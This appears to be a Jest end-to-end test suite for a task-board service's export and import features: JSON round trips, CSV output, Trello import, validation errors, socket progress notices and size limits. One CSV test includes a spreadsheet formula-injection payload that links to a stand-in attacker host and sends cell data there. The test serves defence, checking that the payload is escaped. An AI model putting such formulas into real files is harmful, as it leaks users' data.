import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { followImport, TasklaneRestClient, type TasklaneSocket } from '@tasklane/client';
import type { BoardSnapshot, ImportProgressNotice } from '@tasklane/contracts';
import { boardWithMembers, createTask, registerUser, snapshot, type TestUser } from './support/fixtures.js';
import { connectSocket } from './support/sockets.js';

const { useTestApp } = await import('./support/test-app.js');

const TRELLO = readFileSync(new URL('./fixtures/trello-board.json', import.meta.url), 'utf8');

describe('board export and import (e2e)', () => {
  const sockets: TasklaneSocket[] = [];
  const t = useTestApp({ beforeClose: () => sockets.splice(0).forEach((s) => s.disconnect()) });

  /** Uploads `content` as the multipart field `file` and returns the 202 body. */
  const upload = (user: TestUser, content: string | Buffer, field = 'file') =>
    t.http().post('/api/v1/boards/import').set(user.auth).attach(field, Buffer.isBuffer(content) ? content : Buffer.from(content), { filename: 'board.json', contentType: 'application/json' });

  /** Waits for the import to finish and returns its status. */
  async function finished(user: TestUser, location: string): Promise<{ status: string; boardId: string | null; error: string | null; skipped: { archivedColumns: number; archivedTasks: number } }> {
    const deadline = Date.now() + 30_000;
    for (;;) {
      const res = await t.http().get(location).set(user.auth).expect(200);
      if (res.body.status !== 'queued' || Date.now() > deadline) return res.body;
      await new Promise((r) => setTimeout(r, 200));
    }
  }

  /** The parts of a snapshot an export carries, without ids, versions and times. */
  const shape = (s: BoardSnapshot) => {
    const labels = new Map(s.labels.map((l) => [l.id, l.name]));
    return {
      name: s.name,
      description: s.description,
      labels: s.labels.map((l) => ({ name: l.name, color: l.color })),
      columns: s.columns.map((c) => ({ name: c.name, tasks: s.tasks.filter((x) => x.columnId === c.id).map((x) => ({ title: x.title, description: x.description, labels: x.labelIds.map((id) => labels.get(id)), dueAt: x.dueAt, completedAt: x.completedAt })) })),
    };
  };

  it('exports JSON that imports back as an equal board (modulo ids)', async () => {
    const { owner, board } = await boardWithMembers(t, { board: { name: 'Round trip', description: 'with "quotes", commas, and ünïcode', columns: ['A', 'B', 'Empty'] } });
    const [a, b] = board.columns;
    const label = async (name: string, color: string) => ((await t.http().post(`/api/v1/boards/${board.id}/labels`).set(owner.auth).send({ name, color }).expect(201)).body as { id: string }).id;
    const [x, y] = [await label('x', '#112233'), await label('y', '#aabbcc')];
    for (let i = 0; i < 7; i++) await createTask(t, owner.auth, board.id, { columnId: i % 2 ? a.id : b.id, title: `task ${i}, "quoted"\nline 2`, description: i === 3 ? 'multi\nline' : '', labelIds: i === 1 ? [y, x] : [], dueAt: i === 2 ? '2027-05-01T10:00:00.000Z' : undefined });
    // One placed first in its column, so display order is not creation order.
    await createTask(t, owner.auth, board.id, { columnId: a.id, title: 'first of A', beforeTaskId: (await snapshot(t, owner.auth, board.id)).tasks.find((x) => x.columnId === a.id)!.id });
    const withExtras = (await snapshot(t, owner.auth, board.id)).tasks[0];
    for (const [text, done] of [['first item', true], ['second item', false]] as const) {
      await t.http().post(`/api/v1/boards/${board.id}/tasks/${withExtras.id}/checklist`).set(owner.auth).send({ text, done }).expect(201);
    }
    await t.http().post(`/api/v1/boards/${board.id}/tasks/${withExtras.id}/comments`).set(owner.auth).send({ body: 'A *comment*' }).expect(201);
    // A done task: its completedAt (not only "done") survives the round trip.
    const doneTask = (await snapshot(t, owner.auth, board.id)).tasks.find((x) => x.dueAt !== null)!;
    await t.http().patch(`/api/v1/boards/${board.id}/tasks/${doneTask.id}`).set(owner.auth).send({ completed: true }).expect(200);
    const original = await snapshot(t, owner.auth, board.id);
    expect(original.tasks.filter((x) => x.completedAt !== null).map((x) => x.id)).toEqual([doneTask.id]);

    const exported = await t.http().get(`/api/v1/boards/${board.id}/export?format=json`).set(owner.auth).expect(200);
    expect(exported.headers['content-type']).toMatch(/^application\/json/);
    expect(exported.headers['content-disposition']).toBe(`attachment; filename="tasklane-board-${board.id}.json"`);
    const file = JSON.parse(exported.text);
    expect(file).toMatchObject({ format: 'tasklane.board', version: 1, board: { name: 'Round trip' }, members: [{ role: 'owner' }] });
    expect(file.tasks).toHaveLength(8);

    const importer = await registerUser(t);
    const started = await upload(importer, exported.text).expect(202);
    expect(started.body).toMatchObject({ status: 'queued', source: 'tasklane', columnCount: 3, taskCount: 8 });
    expect(started.headers.location).toBe(`/api/v1/imports/${started.body.id}`);
    const done = await finished(importer, started.headers.location);
    expect(done).toMatchObject({ status: 'succeeded', error: null });
    const copy = await snapshot(t, importer.auth, done.boardId!);
    expect(copy.role).toBe('owner');
    expect(copy.seq).toBe(0);
    expect(shape(copy)).toEqual(shape(original));
    expect(copy.id).not.toBe(original.id);
    // Checklist and comments of the task that had them: the items as they were, the comment by the importer with the author's name.
    const twin = copy.tasks[original.tasks.findIndex((x) => x.id === withExtras.id)];
    expect(twin.checklist).toEqual({ done: 1, total: 2 });
    expect(twin.commentCount).toBe(1);
    const items = await t.http().get(`/api/v1/boards/${copy.id}/tasks/${twin.id}/checklist`).set(importer.auth).expect(200);
    expect((items.body as { text: string; done: boolean }[]).map((i) => [i.text, i.done])).toEqual([['first item', true], ['second item', false]]);
    const said = await t.http().get(`/api/v1/boards/${copy.id}/tasks/${twin.id}/comments`).set(importer.auth).expect(200);
    expect(said.body.items).toEqual([expect.objectContaining({ authorId: importer.user.id, body: expect.stringMatching(/^\*\*Test User\*\* \(\d{4}-\d{2}-\d{2}\): A \*comment\*$/) })]);
    // Another user cannot see the import.
    await t.http().get(started.headers.location).set(owner.auth).expect(404);
  });

  it('exports CSV, one row per task, streamed with a header', async () => {
    const { owner, board } = await boardWithMembers(t);
    const label = async (name: string) => ((await t.http().post(`/api/v1/boards/${board.id}/labels`).set(owner.auth).send({ name, color: '#123456' }).expect(201)).body as { id: string }).id;
    await createTask(t, owner.auth, board.id, { columnId: board.columns[0].id, title: 'has, comma and "quote"', labelIds: [await label('l1'), await label('l2')] });
    const plain = await createTask(t, owner.auth, board.id, { columnId: board.columns[1].id, title: 'plain' });
    const done = (await t.http().patch(`/api/v1/boards/${board.id}/tasks/${plain.id}`).set(owner.auth).send({ completed: true }).expect(200)).body as { completedAt: string };
    const res = await t.http().get(`/api/v1/boards/${board.id}/export?format=csv`).set(owner.auth).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.text.trim().split('\n');
    expect(lines[0]).toBe('id,column,title,description,labels,assignees,dueAt,completedAt,archivedAt,createdAt,updatedAt');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`,To do,"has, comma and ""quote""",,"l1, l2",`);
    expect(lines[2]).toContain(',Doing,plain,,');
    // dueAt empty, then completedAt, then archivedAt empty.
    expect(lines[2]).toContain(`,,${done.completedAt},,`);
    expect(lines[1]).toMatch(/,,,[^,]+,[^,]+$/);
    // A title a spreadsheet would run as a formula is written as text (a leading ').
    await createTask(t, owner.auth, board.id, { columnId: board.columns[2].id, title: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
    const formula = (await t.http().get(`/api/v1/boards/${board.id}/export?format=csv`).set(owner.auth).expect(200)).text.trim().split('\n');
    expect(formula).toHaveLength(4);
    expect(formula[3]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    await t.http().get(`/api/v1/boards/${board.id}/export?format=xml`).set(owner.auth).expect(400);
    const stranger = await registerUser(t);
    await t.http().get(`/api/v1/boards/${board.id}/export`).set(stranger.auth).expect(404);
  });

  it('imports a Trello board export: lists → columns, cards → tasks in order, labels, due dates, done cards, checklists and comments', async () => {
    const user = await registerUser(t);
    const importStarted = Date.now();
    const started = await upload(user, TRELLO).expect(202);
    expect(started.body).toMatchObject({ source: 'trello', columnCount: 3, taskCount: 6, skipped: { archivedColumns: 1, archivedTasks: 1 } });
    const done = await finished(user, started.headers.location);
    expect(done.status).toBe('succeeded');
    const board = await snapshot(t, user.auth, done.boardId!);
    expect(board).toMatchObject({ name: 'Launch plan', description: 'Everything for the spring launch' });
    expect(shape(board).columns.map((c) => [c.name, c.tasks.map((x) => x.title)])).toEqual([
      ['Backlog', ['Pick the launch date', 'Write the press release']],
      ['Doing', ['Build the landing page']],
      ['Done', ['Kick-off meeting', 'Book the venue']],
    ]);
    expect(shape(board).labels).toEqual([
      { name: 'Blocked', color: '#eb5a46' },
      { name: 'purple', color: '#c377e0' },
      { name: 'Ready', color: '#61bd4f' },
    ]);
    expect(shape(board).columns[0].tasks[0].labels).toEqual(['Ready', 'purple']);
    // The closed card is an archived task of its list's column.
    const archive = await t.http().get(`/api/v1/boards/${done.boardId}/archive`).set(user.auth).expect(200);
    expect((archive.body.items as { kind: string; task?: { title: string; columnId: string } }[]).map((e) => [e.kind, e.task?.title, e.task?.columnId])).toEqual([['task', 'Old card', board.columns[1].id]]);
    const pick = board.tasks.find((x) => x.title === 'Pick the launch date')!;
    expect(pick).toMatchObject({ description: '', checklist: { done: 1, total: 2 }, commentCount: 2 });
    const items = await t.http().get(`/api/v1/boards/${board.id}/tasks/${pick.id}/checklist`).set(user.auth).expect(200);
    expect((items.body as { text: string; done: boolean }[]).map((i) => [i.text, i.done])).toEqual([['Public holidays', true], ['Competitor launches', false]]);
    const said = await t.http().get(`/api/v1/boards/${board.id}/tasks/${pick.id}/comments`).set(user.auth).expect(200);
    expect((said.body.items as { body: string }[]).map((c) => c.body)).toEqual(["**Grace Hopper** (2027-01-04): Let's aim for March.", '**Ada Lovelace** (2027-01-05): Second thought: after the holidays.']);
    const press = board.tasks.find((x) => x.title === 'Write the press release')!;
    expect(press).toMatchObject({ dueAt: '2027-03-01T17:00:00.000Z', description: 'Draft in the shared doc.' });
    expect(shape(board).columns[0].tasks[1].labels).toEqual(['Blocked']);
    // dueComplete: done at the card's dateLastActivity, else at the import; dueComplete false or absent: open.
    expect(press.completedAt).toBeNull();
    expect(board.tasks.find((x) => x.title === 'Build the landing page')!.completedAt).toBeNull();
    expect(board.tasks.find((x) => x.title === 'Kick-off meeting')!.completedAt).toBe('2027-01-10T11:30:00.000Z');
    const venue = Date.parse(board.tasks.find((x) => x.title === 'Book the venue')!.completedAt!);
    expect(venue).toBeGreaterThanOrEqual(importStarted - 1000);
    expect(venue).toBeLessThanOrEqual(Date.now());
  });

  it('refuses bad files with 400 naming what is wrong and where, and creates nothing', async () => {
    const user = await registerUser(t);
    const before = (await t.http().get('/api/v1/boards').set(user.auth).expect(200)).body.items.length;
    const cases: [string | Buffer, RegExp][] = [
      ['{ not json', /file: is not valid JSON/],
      ['[1, 2]', /not a Tasklane board export/],
      [JSON.stringify({ format: 'tasklane.board', version: 2 }), /file: version: must be 1/],
      [JSON.stringify({ format: 'tasklane.board', version: 1, board: { name: '' }, columns: [{ id: 'c', name: 'C' }], tasks: [{ columnId: 'nope', title: 'x' }, { columnId: 'c', title: 5, dueAt: 'tomorrow' }] }), /file: board\.name: must not be empty.*file: tasks\[0\]\.columnId.*file: tasks\[1\]\.title: must be a string.*file: tasks\[1\]\.dueAt/s],
      [JSON.stringify({ name: 'T', lists: [{ id: 'l', name: 'L' }], cards: [{ id: 'c', name: 'x', idList: 'missing' }] }), /file: cards\[0\]\.idList/],
      // Names that differ only in case: one label to the database (it used to pass here, fail in the job and be reported as succeeded).
      [JSON.stringify({ format: 'tasklane.board', version: 1, board: { name: 'B' }, labels: [{ name: 'Bug', color: '#ff0000' }, { name: 'bug', color: '#00ff00' }], columns: [], tasks: [] }), /file: labels\[1\]\.name: is used by another label/],
    ];
    for (const [content, message] of cases) {
      const res = await upload(user, content).expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(JSON.stringify(res.body.details.map((d: { field: string; errors: string[] }) => `${d.field}: ${d.errors.join(', ')}`))).toMatch(message);
    }
    // No file part, and a plain JSON body.
    await upload(user, TRELLO, 'other').expect(400);
    // Malformed multipart bodies (no boundary; a part cut short): 400, not 500.
    const noBoundary = await t.http().post('/api/v1/boards/import').set(user.auth).set('Content-Type', 'multipart/form-data').send('--x\r\n');
    expect({ status: noBoundary.status, code: noBoundary.body.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
    const cut = '--b0\r\nContent-Disposition: form-data; name="file"; filename="board.json"\r\nContent-Type: application/json\r\n\r\n{"name":';
    const cutShort = await t.http().post('/api/v1/boards/import').set(user.auth).set('Content-Type', 'multipart/form-data; boundary=b0').send(cut);
    expect({ status: cutShort.status, code: cutShort.body.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
    await t.http().post('/api/v1/boards/import').set(user.auth).send({ name: 'x' }).expect(400);
    expect((await t.http().get('/api/v1/boards').set(user.auth).expect(200)).body.items.length).toBe(before);
  });

  it('pushes import:progress to the importer\'s sockets only: monotonic running counts, then succeeded with the board', async () => {
    const [importer, stranger] = [await registerUser(t), await registerUser(t)];
    const mine = await connectSocket(t.url, importer.accessToken);
    const theirs = await connectSocket(t.url, stranger.accessToken);
    sockets.push(mine, theirs);
    const heard: ImportProgressNotice[] = [];
    const overheard: ImportProgressNotice[] = [];
    mine.on('import:progress', (n) => heard.push(n));
    theirs.on('import:progress', (n) => overheard.push(n));
    const final = new Promise<ImportProgressNotice>((resolve) => mine.on('import:progress', (n) => n.status !== 'running' && resolve(n)));
    const tasks = Array.from({ length: 60 }, (_, i) => ({ columnId: i % 2 ? 'a' : 'b', title: `task ${i}`, checklist: [{ text: 'item', done: false }], comments: [{ author: 'Ann', body: 'hi', createdAt: '2026-01-01T00:00:00.000Z' }] }));
    const file = { format: 'tasklane.board', version: 1, board: { name: 'Progress', description: '' }, labels: [], columns: [{ id: 'a', name: 'A' }, { id: 'b', name: 'B' }], tasks, members: [] };
    const started = await upload(importer, JSON.stringify(file)).expect(202);
    expect(started.body).toMatchObject({ status: 'queued', processed: 0, taskCount: 60 });
    const last = await final;
    expect(last).toEqual({ importId: started.body.id, status: 'succeeded', processed: 60, total: 60, boardId: started.body.id });
    // Running notices first, each for this import with a count that never goes down, then exactly one final notice.
    const running = heard.slice(0, -1);
    expect(running.length).toBeGreaterThanOrEqual(2);
    expect(running.every((n) => n.status === 'running' && n.importId === started.body.id && n.total === 60)).toBe(true);
    const counts = running.map((n) => n.processed);
    expect(counts).toEqual([...counts].sort((x, y) => x - y));
    expect(counts[0]).toBe(0);
    expect(counts.at(-1)).toBeGreaterThan(0);
    expect(heard.at(-1)).toEqual(last);
    // The same outcome over REST, and the board exists for the importer.
    const status = await t.http().get(started.headers.location).set(importer.auth).expect(200);
    expect(status.body).toMatchObject({ status: 'succeeded', processed: 60, boardId: started.body.id });
    expect((await snapshot(t, importer.auth, last.boardId!)).tasks).toHaveLength(60);
    // The typed client's followImport (socket + GET) ends with the same final notice for a second import.
    const second = await upload(importer, JSON.stringify({ ...file, tasks: tasks.slice(0, 5) })).expect(202);
    const followed = followImport({ socket: mine, rest: new TasklaneRestClient(t.url, importer.accessToken), importId: second.body.id });
    await expect(followed.done).resolves.toEqual({ importId: second.body.id, status: 'succeeded', processed: 5, total: 5, boardId: second.body.id });
    // Nothing for anyone else, also after a moment for stragglers.
    await new Promise((r) => setTimeout(r, 300));
    expect(overheard).toEqual([]);
  });

  it('takes multipart only on the import route: JSON routes answer 415, the import reads files past the 1 MiB JSON body limit up to 50 MiB, then 413', async () => {
    const { owner, board } = await boardWithMembers(t, { board: { name: 'Multipart', columns: ['A'] } });
    const standard = (res: { status: number; body: unknown; headers: Record<string, string> }, status: number, code: string) =>
      expect({ status: res.status, body: res.body }).toEqual({ status, body: { statusCode: status, code, message: expect.any(String), requestId: res.headers['x-request-id'] } });
    // A multipart body to JSON routes (a create, an update): 415, and nothing written.
    const created = await t.http().post('/api/v1/boards').set(owner.auth).field('name', 'via form');
    standard(created, 415, 'UNSUPPORTED_MEDIA_TYPE');
    const task = await createTask(t, owner.auth, board.id, { columnId: board.columns[0].id, title: 'before' });
    const patched = await t.http().patch(`/api/v1/boards/${board.id}/tasks/${task.id}`).set(owner.auth).attach('file', Buffer.from('{"title":"after"}'), { filename: 'x.json', contentType: 'application/json' });
    standard(patched, 415, 'UNSUPPORTED_MEDIA_TYPE');
    expect((await snapshot(t, owner.auth, board.id)).tasks.map((x) => x.title)).toEqual(['before']);
    // An unknown route stays 404.
    expect((await t.http().post('/api/v1/nowhere').set(owner.auth).field('a', 'b')).status).toBe(404);

    // The import route: a 3 MiB file (over the JSON body limit) is read and queued.
    const importer = await registerUser(t);
    const tasks = Array.from({ length: 170 }, (_, i) => ({ columnId: 'a', title: `big ${i}`, description: 'd'.repeat(19_000) }));
    const big = JSON.stringify({ format: 'tasklane.board', version: 1, board: { name: 'Big', description: '' }, labels: [], columns: [{ id: 'a', name: 'A' }], tasks, members: [] });
    expect(big.length).toBeGreaterThan(3 * 1024 * 1024);
    const accepted = await upload(importer, big).expect(202);
    expect(accepted.body).toMatchObject({ status: 'queued', taskCount: 170 });
    expect(await finished(importer, accepted.headers.location)).toMatchObject({ status: 'succeeded' });
    // One byte over IMPORT_MAX_BYTES (50 MiB): 413 in the standard shape.
    const tooBig = await upload(importer, Buffer.alloc(50 * 1024 * 1024 + 1, 0x20));
    standard(tooBig, 413, 'PAYLOAD_TOO_LARGE');
  }, 60_000);
});
